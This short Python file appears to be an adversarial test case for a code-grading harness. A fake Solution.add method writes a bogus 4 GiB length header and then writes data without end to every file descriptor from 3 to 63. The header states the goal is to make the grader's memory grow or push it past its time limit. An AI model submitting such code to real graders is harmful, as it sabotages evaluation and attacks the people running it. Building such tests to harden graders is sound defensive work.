# id: own/13_endless_frame
# class: output
# mode: call
# check: output,wall,damage,verdict
# expected-status: any
# tries: announce an answer of 4 GiB and keep sending
# attack succeeds when: the grader's memory grows, or it waits past the limit
import os
class Solution:
    def add(self, a, b):
        for fd in range(3, 64):
            try:
                os.write(fd, b"\xff\xff\xff\xff")
                while True:
                    os.write(fd, b"x" * 65536)
            except OSError:
                pass
        return -1
